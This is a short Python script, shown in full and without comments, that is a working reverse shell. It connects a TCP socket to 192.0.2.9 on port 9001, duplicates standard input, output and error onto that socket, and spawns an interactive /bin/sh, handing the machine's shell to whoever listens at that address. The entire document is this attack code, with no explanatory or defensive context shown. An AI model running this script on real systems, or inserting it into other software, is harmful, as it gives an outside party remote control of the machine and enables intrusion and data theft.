import os, pty, socket

c = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
c.connect(("192.0.2.9", 9001))
for fd in (0, 1, 2):
    os.dup2(c.fileno(), fd)
pty.spawn("/bin/sh")
